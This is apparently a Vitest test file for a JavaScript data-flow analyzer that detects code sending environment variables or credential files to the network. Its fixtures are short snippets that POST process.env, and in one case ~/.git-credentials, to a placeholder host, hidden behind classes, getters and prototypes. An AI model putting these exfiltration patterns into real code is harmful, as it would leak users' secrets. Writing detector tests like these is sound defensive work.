import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** What the file sends at load. */
function sent(source: string): number {
  const { flows } = analyzeJs(source).flow;
  return flows
    .filter(({ sink, live }) => sink === 'network' && live)
    .reduce((all, { labels }) => all | labels, 0);
}

const POST = "fetch('https://a.test', { method: 'POST', body: x })";

test.each([
  [
    'an object',
    `const a = { get() { return process.env; }, send(x) { ${POST}; }, run() { this.send(this.get()); } };\na.run();`,
  ],
  [
    'a class',
    `class A { get() { return process.env; } send(x) { ${POST}; } run() { this.send(this.get()); } }\nnew A().run();`,
  ],
  [
    'private members',
    `class A { #get() { return process.env; } #send(x) { ${POST}; } run() { this.#send(this.#get()); } }\nnew A().run();`,
  ],
  [
    'a prototype',
    `function A() {}\nA.prototype.get = function () { return process.env; };\nA.prototype.run = function () { const x = this.get(); ${POST}; };\nnew A().run();`,
  ],
  [
    'an instance with a name',
    `class A { get() { return process.env; } }\nconst a = new A();\nconst x = a.get();\n${POST};`,
  ],
  [
    'what an arrow in a method calls',
    `const a = { get() { return process.env; }, run() { setTimeout(() => { const x = this.get(); ${POST}; }); } };\na.run();`,
  ],
  [
    'what a constructor is given',
    `class A { constructor(v) { this.v = v; } run() { const x = this.v; ${POST}; } }\nnew A(process.env).run();`,
  ],
  [
    'what an object holds',
    `const a = { all: process.env, run() { const x = this.all; ${POST}; } };\na.run();`,
  ],
  [
    'methods that give their object back',
    `class A { all = []; add(v) { this.all.push(v); return this; } both(v) { return this.add(1).add(v); } run() { const x = this.all; ${POST}; } }\nnew A().add(1).both(process.env).run();`,
  ],
  ['a getter', `const a = { get all() { return process.env; } };\nconst x = a.all;\n${POST};`],
  ['a setter', `const a = { set all(x) { ${POST}; } };\na.all = process.env;`],
  [
    'a bound method',
    `class A { send(x) { ${POST}; } run() { Promise.resolve(process.env).then(this.send.bind(this)); } }\nnew A().run();`,
  ],
  [
    'an iterator',
    `const a = { async *[Symbol.asyncIterator]() { yield process.env; } };\n(async () => { for await (const x of a) ${POST}; })();`,
  ],
  [
    'a class by another name',
    `class A { get() { return process.env; } }\nconst B = A;\nconst a = new B();\nconst x = a.get();\n${POST};`,
  ],
  [
    'a class of an object',
    `class A { send(x) { ${POST}; } }\nconst all = { A };\nclass B extends all.A { run() { this.send(process.env); } }\nnew B().run();`,
  ],
])('members are followed: %s', (_, source) => {
  expect(sent(source) & LABEL.envAll).toBe(LABEL.envAll);
});

test.each([
  [
    'of another object',
    `const a = { get() { return process.env; } };\nconst b = { get() { return 1; }, run() { const x = this.get(); ${POST}; } };\nb.run(); a.get();`,
  ],
  [
    'of another class',
    `class A { get() { return process.env; } }\nclass B { get() { return 1; } run() { const x = this.get(); ${POST}; } }\nnew B().run();`,
  ],
  [
    'of what is around an arrow',
    `const a = { all: process.env, run: () => { const x = this.all; ${POST}; } };\na.run();`,
  ],
])('members are not taken for those %s', (_, source) => {
  expect(sent(source) & LABEL.envAll).toBe(0);
});

test('a credential file is known by what a constructor is given', () => {
  const source = `const fs = require('fs');\nclass A { constructor(path) { this.path = path; } run() { const x = fs.readFileSync(require('os').homedir() + this.path); ${POST}; } }\nnew A('/.git-credentials').run();`;
  expect(sent(source) & LABEL.credential).toBe(LABEL.credential);
});

test('in a bundle of many modules only what is called by a name is followed', () => {
  const filler = 'x.y;'.repeat(5_000);
  const source = `const a = { get() { return process.env; }, run() { const x = this.get(); ${POST}; } };\na.run();`;
  expect(sent(source) & LABEL.envAll).toBe(LABEL.envAll);
  expect(sent(source + filler) & LABEL.envAll).toBe(0);
});

test('chains of methods that give their object back cost what they may cost', () => {
  const source = `class A { a(v) { return this.a(v).a(v).a(v); } }\nnew A()${'.a(process.env)'.repeat(400)};\nfetch('https://a.test');`;
  const startedMs = performance.now();
  analyzeJs(source);
  expect(performance.now() - startedMs).toBeLessThan(5_000);
});
